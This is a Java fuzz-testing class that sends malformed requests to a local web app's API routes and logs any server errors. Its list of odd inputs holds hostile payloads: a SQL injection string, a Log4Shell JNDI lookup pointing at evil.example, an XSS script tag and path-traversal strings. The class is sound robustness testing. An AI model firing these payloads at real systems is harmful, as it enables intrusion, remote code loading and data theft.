package org.hearth.local.soak;

import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.hearth.local.client.Answer;
import org.hearth.local.client.HearthClient;
import org.hearth.local.template.FunctionSpec;

/** Requests that nobody's page would send, to each route: whatever is sent, the answer says what is wrong with it and is no fault. */
public final class Fuzz {
    private static final String ULID = "01ARZ3NDEKTSV4RRFFQ69G5FAV";
    private static final List<String> ODD = List.of("", " ", "null", "0", "-1", "1e999", "true", "[]", "{}", "\u0000", "\ufffd", "\ud83d", "\u202e", "../..", "%00", "%2e%2e%2f",
            "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "=1+1", "a".repeat(300), "😀".repeat(50), "PROFILE", "POST#", "THREAD#" + ULID,
            "__proto__", "9999999999999#" + ULID, "2026-13", "0000-00", "2026-11-31T00:00:00Z", "+292278994-08-17T07:12:55.807Z");
    private static final List<String> FIELDS = List.of("text", "title", "version", "reason", "note", "action", "rule", "until", "name", "posts", "decisionId", "threadId", "postId",
            "memberId", "contact", "tellMe", "anonymous", "quotes", "labels", "reply", "start", "end", "weeks", "moderatorId", "filters", "mail", "revision", "groupId", "used", "window");
    private static final List<String> PARAMETERS = List.of("cursor", "region", "state", "from", "to", "without", "return", "code", "state", "as", "risk", "group");

    private final Random random;
    private final List<HearthClient> people;
    private final Map<Integer, Integer> statuses = new TreeMap<>();
    private final Map<String, String> faults = new TreeMap<>();

    /** @param people who send in turn */
    public Fuzz(long seed, List<HearthClient> people) {
        this.random = new Random(seed);
        this.people = people;
    }

    /** Whether a request to it may end the session of whoever sends the others, or their place here. */
    public static boolean endsSessions(FunctionSpec.Route route) {
        return route.path().startsWith("/api/session") && (route.method().equals("DELETE") || route.path().endsWith("/exit"));
    }

    /** Sends so many requests to one route. */
    public void send(FunctionSpec.Route route, int times) {
        for (int i = 0; i < times; i++) {
            HearthClient person = people.get(i % people.size());
            String path = path(route.path());
            String body = route.method().equals("GET") || route.method().equals("DELETE") && random.nextBoolean() ? null : body();
            try {
                Answer answer = person.send(route.method(), path, body, headers());
                statuses.merge(answer.status(), 1, Integer::sum);
                if (answer.status() >= 500) {
                    faults.putIfAbsent(route.key(), answer.status() + " for " + path + " with " + (body == null ? "nothing" : body.substring(0, Math.min(300, body.length()))));
                }
            } catch (UncheckedIOException | IllegalArgumentException unsendable) {
                statuses.merge(0, 1, Integer::sum);
            }
        }
    }

    /** How often each status came; 0 for what the client itself would not send. */
    public Map<Integer, Integer> statuses() {
        return statuses;
    }

    /** One example for each route that answered with a fault of ours. */
    public Map<String, String> faults() {
        return faults;
    }

    private String path(String template) {
        StringBuilder path = new StringBuilder();
        for (String part : template.substring(1).split("/")) {
            path.append('/').append(part.startsWith("{") ? encoded(random.nextInt(3) == 0 ? ULID : odd()) : part);
        }
        int parameters = random.nextInt(3);
        for (int i = 0; i < parameters; i++) {
            String value = random.nextBoolean() ? odd() : Base64.getUrlEncoder().withoutPadding().encodeToString(odd().getBytes(StandardCharsets.UTF_8));
            path.append(i == 0 ? '?' : '&').append(pick(PARAMETERS)).append('=').append(encoded(value));
        }
        return URI.create(path.toString()).toString();
    }

    private Map<String, String> headers() {
        return switch (random.nextInt(8)) {
            case 0 -> Map.of("Idempotency-Key", ascii(odd()));
            case 1 -> Map.of("Content-Type", "text/plain");
            case 2 -> Map.of("X-Forwarded-For", "6.6.6.6, " + ascii(odd()));
            case 3 -> Map.of("If-None-Match", ascii(odd()));
            default -> Map.of();
        };
    }

    private String body() {
        return switch (random.nextInt(12)) {
            case 0 -> odd();
            case 1 -> "[".repeat(1 + random.nextInt(2_000));
            case 2 -> "{\"text\":\"" + "a".repeat(random.nextInt(200_000)) + "\"}";
            case 3 -> object(2) + object(1);
            case 4 -> "{\"text\":\"a\",\"text\":\"b\"}";
            case 5 -> cut(object(1));
            default -> object(2);
        };
    }

    private String cut(String text) {
        return text.substring(0, random.nextInt(text.length()));
    }

    private String object(int depth) {
        StringBuilder object = new StringBuilder("{");
        int fields = random.nextInt(6);
        for (int i = 0; i < fields; i++) {
            object.append(i == 0 ? "" : ",").append('"').append(random.nextInt(12) == 0 ? escaped(odd()) : pick(FIELDS)).append("\":").append(value(depth));
        }
        return object.append('}').toString();
    }

    private String value(int depth) {
        return switch (random.nextInt(depth > 0 ? 9 : 7)) {
            case 0 -> Long.toString(random.nextLong());
            case 1 -> Integer.toString(random.nextInt(5) - 2);
            case 2 -> "1e" + random.nextInt(400);
            case 3 -> pick(List.of("true", "false", "null"));
            case 4 -> "\"" + ULID + "\"";
            case 7 -> object(depth - 1);
            case 8 -> "[" + value(depth - 1) + "," + value(depth - 1) + "]";
            default -> "\"" + escaped(odd()) + "\"";
        };
    }

    private String odd() {
        return pick(ODD);
    }

    private String pick(List<String> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static String ascii(String text) {
        return text.replaceAll("[^ -~]", "?").strip();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String escaped(String text) {
        StringBuilder escaped = new StringBuilder();
        for (char c : text.toCharArray()) {
            escaped.append(c < ' ' || c > '~' || c == '"' || c == '\\' ? String.format("\\u%04x", (int) c) : Character.toString(c));
        }
        return escaped.toString();
    }
}
